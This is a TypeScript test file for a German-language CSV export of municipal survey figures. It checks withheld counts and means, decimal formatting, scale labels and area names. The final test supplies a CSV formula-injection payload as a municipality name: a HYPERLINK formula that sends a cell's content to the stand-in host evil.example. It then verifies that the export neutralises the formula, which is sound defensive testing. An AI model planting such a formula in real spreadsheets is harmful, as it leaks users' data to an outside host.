import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { translator } from "../../platform/i18n/i18n.ts";
import "./index.ts";
import { figuresCsv } from "./csv.ts";
import type { ExportRow } from "./export-rows.ts";

/* The figures as a German office's spreadsheet opens them: what is withheld says so, also where only a mean is. */

const row = (over: Partial<ExportRow>): ExportRow => ({
  year: 2026,
  period: "2026",
  scope: "DE",
  dimension: "form",
  code: "threat",
  value: 12,
  mean: null,
  ...over,
});
const lines = (rows: ExportRow[]) =>
  parse(figuresCsv(rows, translator("de"), "de", "Musterstadt"), { columns: true, delimiter: ";", bom: true }) as Record<string, string>[];

test("a count below 5 and a mean of too few answers are both marked withheld; a mean without answers is not", () => {
  const [count, shownMean, withheldMean, noAnswers] = lines([
    row({ value: null }),
    row({ dimension: "feedback", code: "supported", value: 14, mean: 3.64 }),
    row({ dimension: "feedback", code: "superiors", value: 3, mean: null }),
    row({ dimension: "feedback", code: "partners", value: 0, mean: null }),
  ]);
  assert.deepEqual([count.anzahl, count.gesperrt], ["", "ja"]);
  assert.deepEqual([shownMean.anzahl, shownMean.gesperrt, shownMean.mittelwert], ["14", "nein", "3,6"], "a decimal comma");
  assert.deepEqual([withheldMean.anzahl, withheldMean.gesperrt, withheldMean.mittelwert], ["3", "ja", ""]);
  assert.deepEqual([noAnswers.anzahl, noAnswers.gesperrt, noAnswers.mittelwert], ["0", "nein", ""], "nothing to withhold");
  assert.notEqual(withheldMean.bezeichnung, "superiors", "named in words beside the code");
});

test("a line with a mean says that its count is of answers, and the mean's scale: no answers do not read as a score of 0", () => {
  const [feedback, strategy, form] = lines([
    row({ dimension: "feedback", code: "supported", value: 14, mean: 3.64 }),
    row({ dimension: "strategy_score", code: "alliance", value: 0, mean: null }),
    row({}),
  ]);
  assert.equal(feedback.bezeichnung, "Rückmeldung „Insgesamt unterstützt“ (Anzahl: Rückmeldungen; Mittelwert von 1 bis 5)");
  assert.equal(strategy.bezeichnung, "Selbsteinschätzung „Allianz“ (Anzahl: Selbsteinschätzungen; Mittelwert von 0 bis 100)");
  assert.deepEqual([strategy.anzahl, strategy.mittelwert], ["0", ""]);
  assert.doesNotMatch(form.bezeichnung, /Anzahl|Mittelwert/, "a count alone is named as before");
});

test("in English, commas between the fields and points in the decimals, as an English spreadsheet reads them", () => {
  const csv = figuresCsv([row({ dimension: "feedback", code: "supported", value: 14, mean: 3.6 })], translator("en"), "en", "Musterstadt");
  const [line] = parse(csv, { columns: true, delimiter: ",", bom: true }) as Record<string, string>[];
  assert.equal(Object.keys(line).length, 9);
  assert.equal(line.mean, "3.6");
});

test("the area is named in words, not with the JSON's codes (a spreadsheet would read a Land's “04” as 4), a municipality's own by its name", () => {
  const [own, country, land, kind] = lines([row({ scope: "*" }), row({}), row({ scope: "04" }), row({ scope: "model" })]);
  assert.deepEqual([own.gebiet, country.gebiet, land.gebiet, kind.gebiet], ["Musterstadt", "Bundesweit", "Bremen", "Alle Modellkommunen"]);
});

test("a municipality's name that a spreadsheet would run as a formula stays text", () => {
  const csv = figuresCsv([row({ scope: "*" })], translator("de"), "de", '=HYPERLINK("http://evil.example/?"&A1;"Musterstadt")');
  const [own] = parse(csv, { columns: true, delimiter: ";", bom: true }) as Record<string, string>[];
  assert.equal(own.gebiet, `'=HYPERLINK("http://evil.example/?"&A1;"Musterstadt")`);
});
